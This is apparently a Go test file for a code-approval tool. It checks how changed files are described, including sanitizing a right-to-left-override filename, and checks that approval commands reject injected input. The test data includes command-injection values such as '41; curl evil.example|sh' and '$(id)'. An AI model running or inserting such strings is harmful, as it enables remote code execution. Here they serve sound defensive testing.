package console

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/countersign-dev/countersign/attest/gitfacts"
	"github.com/countersign-dev/countersign/policy"
)

func TestFilesAreDescribedByWhatHappensToThem(t *testing.T) {
	const plain, exec, link, module = "100644", "100755", "120000", "160000"
	files, kinds := describeFiles([]gitfacts.Path{
		{Path: "new.go", NewMode: plain, NewID: "1"},
		{Path: "gone.go", OldMode: plain, OldID: "1"},
		{Path: "same.go", OldMode: plain, NewMode: plain, OldID: "1", NewID: "2"},
		{Path: "run.sh", OldMode: plain, NewMode: exec, OldID: "1", NewID: "1"},
		{Path: "evil", OldMode: plain, NewMode: link, OldID: "1", NewID: "2"},
		{Path: "lib", NewMode: module, NewID: "2"},
		{Path: "claimed.go"},
		{Path: "src/\u202eog.yap", NewMode: plain, NewID: "1"},
	})
	want := []file{
		{"added", "new.go", ""}, {"deleted", "gone.go", ""}, {"modified", "same.go", ""}, {"mode", "run.sh", "becomes executable"},
		{"modified", "evil", "symbolic link"}, {"added", "lib", "submodule"}, {"named", "claimed.go", ""}, {"added", "src/\ufffdog.yap", ""},
	}
	if diff := cmp.Diff(want, files); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]counted{{"added", 3}, {"modified", 2}, {"deleted", 1}, {"mode", 1}, {"named", 1}}, kinds); diff != "" {
		t.Error(diff)
	}
}

// What stands in a command is somebody else's word, and is copied into a shell.
func TestCommandsHoldNothingButWords(t *testing.T) {
	answers := []answerable{{Name: "staging"}, {Name: "production", Wanted: true}}
	for what, want := range map[string]string{
		"41":                       "countersign approve 41 --repository example.com/org/shop --environment production --key YOUR-KEY.pem",
		"--plan sha256:00ff":       "countersign approve --plan sha256:00ff --repository example.com/org/shop --environment production --key YOUR-KEY.pem",
		"41; curl evil.example|sh": "countersign inbox",
		"$(id)":                    "countersign inbox",
		"--yes":                    "countersign inbox",
	} {
		if got := command(&policy.Set{}, what, "example.com/org/shop", answers); got != want {
			t.Errorf("%q: %s", what, got)
		}
	}
}
